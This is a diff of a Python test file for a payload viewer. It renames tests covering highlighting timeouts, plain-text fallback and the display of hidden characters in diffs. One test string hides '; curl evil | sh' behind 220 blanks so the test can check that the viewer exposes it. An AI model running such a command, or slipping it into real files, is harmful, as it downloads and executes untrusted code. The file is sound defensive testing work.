@@ -21,7 +21,7 @@ from assent.reading.payloads import ShownPayload, shown_payload
 from assent_contracts.codec import encode
 
 _MOST_S: Final = 1.5
-"""Of the processor: six times what a lexer is given, for slow machines."""
+"""CPU seconds: six times the budget of a lexer, for slow machines."""
 _HOSTILE: Final = (
     *("<!--", "<?", "&", "-", "=", "'\\", '"\\', "`${", "$((", "[[", "<#", "@'\n", "<<A\n", "/*", "/", "%"),
     *("^\n", "a.", "f'{", "? ", "- ", "&a ", "|\n", " \n"),
@@ -67,28 +67,28 @@ def test_longest_payload_takes_no_more_than_its_time(language: str) -> None:
 
 
 def seconds(text: str, language: str) -> float:
-    """How much of the processor the view takes."""
+    """CPU time that the view takes."""
     began = time.thread_time()
     payload_view(ShownPayload("text", language, text), None)
     return time.thread_time() - began
 
 
-def test_text_that_is_too_intricate_is_shown_plain_and_the_page_says_so() -> None:
+def test_too_intricate_text_is_shown_plain_and_the_page_says_so() -> None:
     text = "\n".join(["<!--" * 400] * 12)
     found = view(text, "a.xml")
     assert found.is_plain
     assert [as_written(each.html) for each in found.lines] == text.split("\n")
 
 
-def test_text_that_is_too_long_is_shown_plain_and_the_page_says_so() -> None:
+def test_too_long_text_is_shown_plain_and_the_page_says_so() -> None:
     short, long_ = "echo 1\n" * 1_900, "echo 12345\n" * 1_900
     assert not view(short, "a.sh").is_plain
     assert view(long_, "a.sh").is_plain
     assert not view(long_, "a.txt").is_plain, "it has no colours at any length"
 
 
-def test_same_text_is_coloured_once() -> None:
-    """A live page is recreated at each event: its text has not changed."""
+def test_same_text_is_highlighted_once() -> None:
+    """A live page is rendered again at each event, but its text has not changed."""
     coloured.cache_clear()
     for _ in range(3):
         view("echo hello\n", "a.sh")
@@ -106,8 +106,8 @@ def test_HTML_in_a_payload_is_text(language: str, around: str) -> None:
     assert not found.is_plain
 
 
-def test_language_without_a_fit_lexer_is_text_without_colours() -> None:
-    """`.reg`: Pygments' lexer takes minutes for `-` without end."""
+def test_language_without_a_safe_lexer_is_text_without_colours() -> None:
+    """`.reg`: Pygments' lexer takes minutes for an endless run of `-`."""
     assert get_lexer_by_name("registry")
     assert seconds("-" * 200_000, "registry") < _MOST_S
     found = view("-" * 200_000, "a.reg")
@@ -146,7 +146,7 @@ def test_difference_shows_added_and_removed_lines_and_folds_the_rest() -> None:
     assert all(one <= other for one, other in pairwise(each.new or 0 for each in lines if each.new))
 
 
-def test_difference_of_line_ends_and_hidden_characters_is_seen() -> None:
+def test_differences_of_line_ends_and_hidden_characters_are_visible() -> None:
     found = view("a\r\nb\u202e\nc\n", "a.sh", "a\nb\nc\n")
     assert marked(found) == ["-a", "-b", "+a⟨U+000D⟩", "+b⟨U+202E⟩", " c", " "]
     assert [(each.kind, each.count, each.line) for each in found.odd] == [("hidden", 1, 2)]
@@ -154,7 +154,7 @@ def test_difference_of_line_ends_and_hidden_characters_is_seen() -> None:
     assert [each.is_odd for each in lines] == [False, False, True, True, False, False]
 
 
-def test_R23_a_line_is_shown_to_its_end_however_long() -> None:
+def test_R23_line_is_shown_to_its_end_however_long() -> None:
     text = "echo ok" + " " * 220 + "; curl evil | sh\n" + "x" * 200_000 + "end"
     found = view(text, "a.sh")
     assert as_written(found.lines[0].html) == "echo ok ⟨220 blanks⟩ ; curl evil | sh"
